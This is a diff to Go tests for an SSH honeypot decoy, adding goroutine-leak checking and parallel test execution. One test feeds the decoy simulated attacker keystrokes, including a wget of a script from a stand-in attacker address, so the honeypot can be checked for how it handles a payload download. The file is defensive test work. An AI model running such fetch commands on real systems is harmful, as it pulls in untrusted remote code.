@@ -13,6 +13,7 @@ import (
 	"testing"
 	"time"
 
+	"go.uber.org/goleak"
 	"golang.org/x/crypto/ssh"
 
 	"decnet/decoy"
@@ -55,7 +56,10 @@ func client(t *testing.T, d *decoytest.Decky, password, stdin string, args ...st
 	return string(out), err
 }
 
+func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }
+
 func TestRealClientRunsACommand(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	out, err := client(t, d, password(t, d.Host), "", "uname -n; id -u; exit 3")
 	if exit := new(exec.ExitError); !asExit(err, &exit) || exit.ExitCode() != 3 || out != d.Host.Hostname+"\n0\n" {
@@ -77,6 +81,7 @@ func asExit(err error, target **exec.ExitError) bool {
 }
 
 func TestRealClientGetsAShell(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	out, err := client(t, d, password(t, d.Host), "cd /tmp\rwget http://203.0.113.9/x.sh\rnonesuch\recho $((6*7))\rexit\r", "-tt")
 	if err != nil {
@@ -92,6 +97,7 @@ func TestRealClientGetsAShell(t *testing.T) {
 }
 
 func TestRealClientIsRefused(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	out, err := client(t, d, "no such password", "", "id")
 	if err == nil {
@@ -112,6 +118,7 @@ func dial(t *testing.T, d *decoytest.Decky, auth ...ssh.AuthMethod) (*ssh.Client
 }
 
 func TestEveryKeyIsRecorded(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	signer, err := ssh.NewSignerFromKey(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{1}, 32)))
 	if err != nil {
@@ -125,6 +132,7 @@ func TestEveryKeyIsRecorded(t *testing.T) {
 }
 
 func TestKeyboardInteractive(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	secret := password(t, d.Host)
 	c, err := dial(t, d, ssh.KeyboardInteractive(func(_, _ string, questions []string, _ []bool) ([]string, error) {
@@ -139,6 +147,7 @@ func TestKeyboardInteractive(t *testing.T) {
 }
 
 func TestForwardingAndSubsystemsAreRefusedAndRecorded(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	c, err := dial(t, d, ssh.Password(password(t, d.Host)))
 	if err != nil {
@@ -163,6 +172,7 @@ func TestForwardingAndSubsystemsAreRefusedAndRecorded(t *testing.T) {
 }
 
 func TestChannelsShareTheMachine(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	c, err := dial(t, d, ssh.Password(password(t, d.Host)))
 	if err != nil {
@@ -196,6 +206,7 @@ func TestChannelsShareTheMachine(t *testing.T) {
 }
 
 func TestKeysAndVersionsAreTheDeckysOwn(t *testing.T) {
+	t.Parallel()
 	seen := map[string]bool{}
 	for range 3 {
 		id := decoytest.Identity()
@@ -230,6 +241,7 @@ func TestKeysAndVersionsAreTheDeckysOwn(t *testing.T) {
 }
 
 func TestOldClientsAreServed(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	for _, algorithm := range []string{ssh.KeyAlgoRSASHA512, ssh.KeyAlgoRSASHA256, ssh.KeyAlgoECDSA256, ssh.KeyAlgoED25519} {
 		_, err := ssh.Dial("tcp", d.Address(22), &ssh.ClientConfig{User: "x", HostKeyCallback: ssh.InsecureIgnoreHostKey(), HostKeyAlgorithms: []string{algorithm}, Timeout: 10 * time.Second})
@@ -240,6 +252,7 @@ func TestOldClientsAreServed(t *testing.T) {
 }
 
 func TestGarbageIsRecordedAsAVersion(t *testing.T) {
+	t.Parallel()
 	d := decoytest.Start(t, "ssh")
 	conn := d.Dial(22)
 	fmt.Fprint(conn, "GET / HTTP/1.1\r\n\r\n")
